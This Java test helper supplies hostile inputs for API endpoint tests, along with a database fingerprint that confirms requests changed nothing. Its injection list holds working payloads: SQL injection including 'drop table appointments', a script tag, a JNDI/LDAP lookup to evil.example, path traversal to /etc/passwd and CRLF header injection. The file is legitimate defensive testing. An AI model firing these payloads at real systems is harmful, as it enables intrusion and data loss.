package com.wimd.infra.test;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;

/**
 * What a careless or malicious client sends, for the table-driven tests of every endpoint: hostile values for one
 * field of an otherwise valid body, hostile whole bodies, and a fingerprint of a database to check that none of it
 * changed a row.
 */
public final class HostileInputs {

    private HostileInputs() {
    }

    /** How a hostile value is hostile; an endpoint's table says what each kind earns in each field. */
    public enum Kind {
        /** JSON of another type than the field's: a number or a boolean where a string is expected (Jackson reads them as text). */
        SCALAR,
        /** An object or an array where a scalar is expected. */
        STRUCTURE,
        /** null, empty or blank. */
        MISSING,
        /** Far longer than any real value. */
        HUGE,
        /** Unicode that tricks readers: bidi overrides, NUL, zero-width, emoji, full-width digits. */
        ODD_UNICODE,
        /** SQL, script, template and path injection. */
        INJECTION
    }

    /** One hostile value: a label for the report, the JSON value, and its kind. */
    public record Value(String label, Object json, Kind kind) {
        @Override
        public String toString() {
            return label;
        }
    }

    /** At least 30 hostile values of every kind. */
    public static List<Value> values() {
        List<Value> values = new ArrayList<>();
        values.add(new Value("integer", 12345, Kind.SCALAR));
        values.add(new Value("negative", -1, Kind.SCALAR));
        values.add(new Value("decimal", 1.5e308, Kind.SCALAR));
        values.add(new Value("true", true, Kind.SCALAR));
        values.add(new Value("false", false, Kind.SCALAR));
        values.add(new Value("empty object", Map.of(), Kind.STRUCTURE));
        values.add(new Value("mongo operator", mapOf("$ne", null), Kind.STRUCTURE));
        values.add(new Value("nested object", Map.of("a", Map.of("b", List.of(1, 2))), Kind.STRUCTURE));
        values.add(new Value("empty array", List.of(), Kind.STRUCTURE));
        values.add(new Value("array of strings", List.of("x", "y"), Kind.STRUCTURE));
        values.add(new Value("null", null, Kind.MISSING));
        values.add(new Value("empty string", "", Kind.MISSING));
        values.add(new Value("blank", "   \t ", Kind.MISSING));
        values.add(new Value("100k characters", "x".repeat(100_000), Kind.HUGE));
        values.add(new Value("3000 characters", "pi_" + "a".repeat(3000), Kind.HUGE));
        values.add(new Value("bidi override", "\u202Eevil\u202C", Kind.ODD_UNICODE));
        values.add(new Value("NUL byte", "abc\u0000def", Kind.ODD_UNICODE));
        values.add(new Value("zero-width", "\u200B\u200D\uFEFF", Kind.ODD_UNICODE));
        values.add(new Value("emoji", "\uD83D\uDE00\uD83D\uDCA9", Kind.ODD_UNICODE));
        values.add(new Value("full-width digits", "\uFF11\uFF12\uFF13", Kind.ODD_UNICODE));
        values.add(new Value("combining marks", "e\u0301\u0301\u0301", Kind.ODD_UNICODE));
        values.add(new Value("sql injection", "' or 1=1 --", Kind.INJECTION));
        values.add(new Value("sql drop", "x'); drop table appointments; --", Kind.INJECTION));
        values.add(new Value("script", "<script>alert(1)</script>", Kind.INJECTION));
        values.add(new Value("jndi lookup", "${jndi:ldap://evil.example/x}", Kind.INJECTION));
        values.add(new Value("template", "{{7*7}}#{7*7}", Kind.INJECTION));
        values.add(new Value("path traversal", "../../../../etc/passwd", Kind.INJECTION));
        values.add(new Value("percent-encoded", "%27%20or%201%3D1", Kind.INJECTION));
        values.add(new Value("crlf", "a\r\nSet-Cookie: x=y", Kind.INJECTION));
        values.add(new Value("json in a string", "{\"$gt\": \"\"}", Kind.INJECTION));
        return values;
    }

    /**
     * At least 30 hostile path segments (ids, codes), URL-encoded, none longer than 3000 characters (a request line
     * over 4 KB is refused by the HTTP server itself): every scalar or string value above, and id look-alikes.
     */
    public static List<String> pathSegments() {
        List<String> segments = new ArrayList<>();
        for (Value value : values()) {
            if (value.json() == null || value.json() instanceof java.util.Collection || value.json() instanceof Map) {
                continue;
            }
            String encoded = java.net.URLEncoder.encode(String.valueOf(value.json()), java.nio.charset.StandardCharsets.UTF_8);
            if (!encoded.isEmpty()) {
                segments.add(encoded.length() > 3000 ? encoded.substring(0, 3000) : encoded);
            }
        }
        segments.addAll(List.of("00000000-0000-0000-0000-00000000000g", "00000000-0000-0000-0000-000000000000",
                "%00", "null", "undefined", "..%2F..%2Fadmin", "%2e%2e", "-1", "0x41", "%E2%80%AE"));
        return segments;
    }

    /** The values of the given kinds. */
    public static List<Value> values(Set<Kind> kinds) {
        return values().stream().filter(v -> kinds.contains(v.kind())).toList();
    }

    /** A whole request body that is not the object the endpoint reads, and the problem type it earns. */
    public record Body(String label, String raw, String problemType) {
        @Override
        public String toString() {
            return label;
        }
    }

    /** Bodies that are not JSON ({@code malformed-body}) or not a JSON object ({@code validation}). */
    public static List<Body> bodies() {
        return List.of(
                new Body("truncated object", "{", "malformed-body"),
                new Body("truncated field", "{\"scheduled_datetime\":", "malformed-body"),
                new Body("not json", "hello", "malformed-body"),
                new Body("xml", "<booking/>", "malformed-body"),
                new Body("trailing comma", "{\"a\": 1,}", "malformed-body"),
                new Body("single quotes", "{'a': 1}", "malformed-body"),
                new Body("array", "[]", "validation"),
                new Body("array of objects", "[{}]", "validation"),
                new Body("string", "\"text\"", "validation"),
                new Body("number", "123", "validation"));
    }

    /**
     * A fingerprint of every table of a database (except {@code excluded}, tables that background work changes on
     * its own), to show that a request changed nothing: each table's row count and the newest row version's
     * transaction id ({@code xmin}), which any insert, update or delete moves.
     */
    public static Map<String, String> fingerprint(Sql sql, Set<String> excluded) {
        List<String> tables = sql.rows("select table_name from information_schema.tables "
                        + "where table_schema = 'public' and table_type = 'BASE TABLE' order by table_name").stream()
                .map(row -> (String) row.get("table_name"))
                .filter(table -> !excluded.contains(table) && !table.startsWith("flyway"))
                .toList();
        String query = String.join(" union all ", tables.stream().map(table -> "select '" + table
                + "' as name, count(*) || ':' || coalesce(max(xmin::text::bigint), 0) as state from \"" + table + "\"").toList());
        Map<String, String> digests = new TreeMap<>();
        for (Map<String, Object> row : sql.rows(query)) {
            digests.put((String) row.get("name"), (String) row.get("state"));
        }
        return digests;
    }

    /**
     * The fingerprint once the database has stopped changing (two fingerprints a second apart agree): other tests'
     * sagas may still be settling when a hostile-input table starts.
     */
    public static Map<String, String> fingerprintAtRest(Sql sql, Set<String> excluded, java.time.Duration patience) {
        long deadline = System.nanoTime() + patience.toNanos();
        Map<String, String> last = fingerprint(sql, excluded);
        while (System.nanoTime() < deadline) {
            try {
                Thread.sleep(1000);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new IllegalStateException("interrupted", e);
            }
            Map<String, String> now = fingerprint(sql, excluded);
            if (now.equals(last)) {
                return now;
            }
            last = now;
        }
        throw new IllegalStateException("the database kept changing for " + patience);
    }

    private static Map<String, Object> mapOf(String key, Object value) {
        Map<String, Object> map = new LinkedHashMap<>();
        map.put(key, value);
        return map;
    }
}
